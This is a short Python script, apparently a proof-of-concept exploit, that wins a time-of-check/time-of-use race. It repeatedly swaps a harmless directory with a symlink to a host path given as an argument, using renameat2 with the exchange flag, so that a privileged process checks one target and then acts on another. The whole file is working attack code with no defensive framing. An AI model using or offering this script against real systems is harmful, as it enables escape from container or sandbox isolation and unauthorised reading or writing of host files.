"""Exchange a folder and a link to the host's folder as fast as possible, so that a check never matches a use."""

import ctypes
import os
import sys

libc = ctypes.CDLL(None, use_errno=True)
os.mkdir("now")
with open("now/data", "w") as file:
    file.write("harmless")
os.symlink(sys.argv[1], "away")
with open("ready", "w"):
    pass
while True:
    libc.renameat2(-100, b"now", -100, b"away", 2)
